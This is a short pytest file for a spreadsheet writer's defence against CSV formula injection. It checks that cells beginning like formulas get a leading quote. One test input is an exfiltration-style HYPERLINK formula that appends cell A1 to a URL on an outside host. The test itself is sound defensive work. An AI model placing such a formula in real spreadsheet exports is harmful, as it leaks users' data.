"""The spreadsheet cell rule (OWASP CSV injection): text that starts like a formula."""

import pytest

from formio.writers.cells import cell_text


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://x.io/?"&A1;"clique")', "+SUM(1;2)", "-2+3", "@SOMA(A1)", "\t=1", "\r=1"],
)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(text):
    assert cell_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Ligou, sem retorno.", " =1", "1+1", "a=b", "", "'já citado"])
def test_other_text_is_left_as_it_is(text):
    assert cell_text(text) == text
